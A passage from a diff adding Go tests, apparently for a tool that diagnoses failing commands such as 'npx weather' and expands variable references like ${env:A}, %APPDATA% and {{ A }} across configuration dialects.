+		"requires Node.js >= 99999999999999999999999",
+	} {
+		c := said(text)
+		c.Command = []string{"npx", "weather"}
+		keepsToTheRules(t, text, f, spec, Fixes(f.Machine)(Diagnose(c), c, spec))
+	}
+}
+
+func TestReferencesOfEveryDialect(t *testing.T) {
+	known := func(r reference) (string, bool) { return "<" + r.name + r.otherwise + ">", true }
+	for text, want := range map[string]string{
+		"${A_B}": "<A_B>", "${env:A}": "<A>", "${input:my-token}": "<my-token>", "$A": "<A>", "Bearer $A": "Bearer <A>", "%APPDATA%/x": "<APPDATA>/x", "{{ A }}": "<A>", "{env:A}": "<A>",
+		"${A:-b}": "<Ab>", "x${A}y${B}": "x<A>y<B>", "$HOME/x": "<HOME>/x", "pa$word": "pa$word", "$A$B": "$A$B", "100%": "100%", "a%20b%20c": "a%20b%20c", "plain": "plain", "${}": "${}", "--k=$A": "--k=<A>",
+	} {
+		if got := expand(text, known); got != want {
+			t.Errorf("%s: %s", text, got)
+		}
+	}
+}
